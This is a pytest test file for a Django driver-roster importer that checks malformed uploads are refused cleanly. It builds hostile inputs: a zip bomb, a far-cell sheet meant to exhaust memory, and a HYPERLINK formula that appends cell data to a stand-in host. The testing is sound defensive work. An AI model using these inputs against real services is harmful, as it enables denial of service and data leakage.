"""Imports never crash: any file gives a clear refusal or per-row errors, and writes nothing
beyond the batches it reports (issue: huge cells, broken quoting, wrong encodings, zip bombs,
far cells that would make the spreadsheet reader allocate the world, merged cells, formulas)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.utils import translation

from driverhome.drivers import importer, rosters
from driverhome.drivers.models import Driver

HEADER = ",".join(rosters.HEADER)


@pytest.fixture
def org(orgs):
    return orgs["xiapu"]


def _refused(data: bytes, org, name: str) -> str:
    before = Driver.objects.count()
    with pytest.raises(importer.ImportFileError) as exc:
        importer.run_import(data, filename=name, organisation=org)
    assert Driver.objects.count() == before
    assert str(exc.value)
    return str(exc.value)


@pytest.mark.django_db
def test_a_cell_beyond_the_csv_field_limit_is_refused_with_its_line(org):
    row = rosters.rows(1)[0]
    row[6] = "乡" * (csv.field_size_limit() + 10)
    data = rosters.to_csv(rosters.rows(2)) + ",".join(f'"{c}"' for c in row).encode()
    message = _refused(data, org, "r.csv")
    assert "4" in message  # the line: header, two rows, then the huge one


@pytest.mark.django_db
def test_broken_quoting_gives_per_row_errors_or_a_refusal(org):
    data = (HEADER + '\n"王伟,330206199001011234,"13800138000\n"unclosed,,\n').encode()
    try:
        result = importer.run_import(data, filename="r.csv", organisation=org)
    except importer.ImportFileError as exc:
        assert str(exc)
    else:
        assert result.created == 0 and result.rejected >= 1
    assert Driver.objects.count() == 0


@pytest.mark.django_db
def test_gbk_csv_is_read(org):
    text = HEADER + "\n" + "\n".join(",".join(r) for r in rosters.rows(2))
    result = importer.run_import(text.encode("gbk"), filename="r.csv", organisation=org)
    assert result.created == 2


@pytest.mark.django_db
@pytest.mark.parametrize(
    "data", [b"\x00\x01\x02garbage" * 100, bytes(range(256)) * 10, "姓名".encode("utf-16")]
)
def test_binary_garbage_is_refused(org, data):
    _refused(data, org, "roster.csv")
    _refused(data, org, "roster.xlsx")


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_before_it_is_unpacked(org):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    with translation.override("en"):
        assert "unpacks" in _refused(data, org, "roster.xlsx")


@pytest.mark.django_db
def test_a_far_cell_is_refused_without_taking_the_process_down(org):
    """A 5 KB sheet with a cell at XFD1048576: the reader would ask for 500 GB and abort."""
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, rosters.HEADER)
    sheet.write(1_048_575, 16_383, "x")
    book.close()
    message = _refused(buffer.getvalue(), org, "roster.xlsx")
    assert "200" in message  # says the limits


@pytest.mark.django_db
def test_too_many_columns_in_a_csv_are_refused(org):
    data = (HEADER + "," * 5000 + "\n").encode()
    _refused(data, org, "roster.csv")


@pytest.mark.django_db
def test_an_empty_sheet_and_a_header_only_sheet(org):
    _refused(rosters.to_xlsx([], header=[]), org, "empty.xlsx")
    result = importer.run_import(rosters.to_xlsx([]), filename="h.xlsx", organisation=org)
    assert (result.total, result.created) == (0, 0)


@pytest.mark.django_db
def test_merged_cells_and_formulas_give_per_row_errors(org):
    import xlsxwriter

    rows = rosters.rows(3)
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, rosters.HEADER)
    for index, row in enumerate(rows, start=1):
        sheet.write_row(index, 0, row)
    sheet.merge_range(2, 0, 3, 0, "合并")  # rows 3 and 4 share one name cell
    sheet.write_formula(1, 6, '=HYPERLINK("http://x.example/"&A1,"x")', None, "x")
    book.close()
    result = importer.run_import(buffer.getvalue(), filename="m.xlsx", organisation=org)
    assert result.created + result.rejected == 3
    assert Driver.objects.count() == result.created
